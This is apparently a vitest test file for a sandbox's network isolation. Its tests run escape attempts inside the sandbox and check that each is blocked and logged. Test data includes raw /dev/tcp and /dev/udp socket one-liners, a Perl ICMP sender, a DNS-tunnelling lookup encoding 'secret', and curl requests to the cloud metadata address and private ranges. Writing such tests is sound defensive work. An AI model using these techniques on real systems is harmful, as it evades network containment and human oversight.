import { createSocket } from 'node:dgram';
import { mkdtempSync } from 'node:fs';
import { createServer as createHttp } from 'node:http';
import { createServer, type Server } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ConnectionEvent } from '#core/event.ts';
import { attack, DRIVERS, IS_ROOT, openWorld, type World } from './attack.ts';

let http: Server;
let port: number;
let abstract: Server;
let service: Server;
const name = `sluice-test-${process.pid}`;
const socket = path.join(mkdtempSync(path.join(tmpdir(), 'service-')), 'service.sock');

beforeAll(async () => {
  http = createHttp((_request, response) => response.end('GOT the page'));
  port = await new Promise((resolve) => {
    http.listen(0, '0.0.0.0', () => resolve((http.address() as { port: number }).port));
  });
  abstract = createServer((client) => client.end('GOT in'));
  await new Promise<void>((resolve) => abstract.listen(`\0${name}`, resolve));
  service = createHttp((_request, response) => response.end('the service'));
  await new Promise<void>((resolve) => service.listen(socket, resolve));
});
afterAll(() => {
  for (const server of [http, abstract, service]) server.close();
});

describe.each(DRIVERS)('the network, held by %s', (driver) => {
  let world: World;
  beforeAll(async () => {
    const network = { mode: 'allow' as const, allow: [`127.0.0.1:${port}`] };
    world = await openWorld(driver, { network, services: [{ port: 4800, socket }] });
  });
  afterAll(() => world.close());

  const connections = (): ConnectionEvent[] => world.events.filter((event) => event.kind === 'connection');

  it('leads to what is listed, through the proxy', async () => {
    const { output } = await world.run(`curl -sS --noproxy '' http://127.0.0.1:${port}/`);
    expect(output).toBe('GOT the page');
    expect(connections()).toContainEqual(
      expect.objectContaining({ via: 'proxy', host: '127.0.0.1', port, allowed: true, step: 'attack' }),
    );
  });

  it('leads to the services of the job', async () => {
    expect((await world.run('curl -sS http://127.0.0.1:4800/')).output).toBe('the service');
  });

  it('reaches no loopback of the host, and no other address of it', async () => {
    const addresses = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
    for (const { address } of addresses.filter(({ family }) => family === 'IPv4')) {
      await attack(world, { script: `curl -sS -m 3 --noproxy '*' http://${address}:${port}/ 2>/dev/null` });
    }
  });

  it('reaches nothing by a socket of its own, and that is seen', async () => {
    const before = connections().length;
    await attack(world, {
      script: `for at in tcp/198.51.100.1/443 udp/198.51.100.1/53 tcp/10.0.0.1/80; do (exec 3<>/dev/$at) 2>/dev/null && echo x >&3 && echo GOT; done`,
      control: `exec 3<>/dev/tcp/127.0.0.1/${port} && echo GOT`,
    });
    expect(connections().slice(before)).toContainEqual(
      expect.objectContaining({ via: 'socket', allowed: false, reason: 'no-route' }),
    );
  });

  it('sends no echo requests', async () => {
    const script = `perl -MSocket -e 'for $t (3, 2) { socket(S, 2, $t, 1) or next; send(S, pack("C2 n3", 8, 0, 63479, 1, 1), 0, sockaddr_in(0, inet_aton("198.51.100.1"))) and print "G", "OT\n" }'`;
    await attack(world, {
      script,
      control: script.replace('198.51.100.1', '127.0.0.1'),
      ...(IS_ROOT ? {} : { uncontrolled: true }),
    });
  });

  it('asks no names, and the names are seen', async () => {
    await attack(world, {
      script: 'getent hosts c2VjcmV0.tunnel.example && echo GOT; getent hosts registry.example && echo GOT',
      control: 'getent hosts localhost && echo GOT',
    });
    const asked = connections().filter(({ via }) => via === 'dns');
    expect(asked).toContainEqual(expect.objectContaining({ host: 'c2vjcmv0.tunnel.example', allowed: false }));
  });

  it('sends no questions to a resolver of its choice', async () => {
    let questions = 0;
    const resolver = createSocket('udp4', () => questions++);
    await new Promise<void>((resolve) => resolver.bind(0, '0.0.0.0', resolve));
    const at = resolver.address().port;
    await world.run(`for i in 1 2 3; do echo question > /dev/udp/127.0.0.1/${at}; done`);
    expect(questions).toBe(0);
    await new Promise<void>((resolve) => {
      const control = createSocket('udp4');
      control.send('question', at, '127.0.0.1', () => control.close(() => setTimeout(resolve, 100)));
    });
    expect(questions).toBe(1);
    resolver.close();
  });

  it('connects to no abstract socket of the host', async () => {
    const script = `perl -MSocket -e 'socket(S, 1, 1, 0); connect(S, pack("S a*", 1, "\\0${name}")) and print <S>'`;
    await attack(world, { script });
  });

  it.each(['http://10.0.0.1/', 'http://[::1]/', 'http://169.254.169.254/', 'http://192.168.1.1:8080/'])(
    'does not let the proxy go to %s',
    async (url) => {
      const before = connections().length;
      const { output } = await world.run(`curl -sS -m 5 --noproxy '' ${url}`);
      expect(output).toMatch(/was refused: (?:private|metadata)-address/);
      expect(connections().slice(before)).toMatchObject([{ via: 'proxy', allowed: false }]);
    },
  );

  it('does not follow a redirect to what is not listed', async () => {
    const other = createHttp((_request, response) => response.end('GOT the other'));
    const at = await new Promise<number>((resolve) => {
      other.listen(0, '127.0.0.1', () => resolve((other.address() as { port: number }).port));
    });
    await attack(world, {
      script: `curl -sS -m 5 --noproxy '' http://127.0.0.1:${at}/`,
      control: `curl -sS http://127.0.0.1:${at}/`,
    });
    other.close();
  });
});
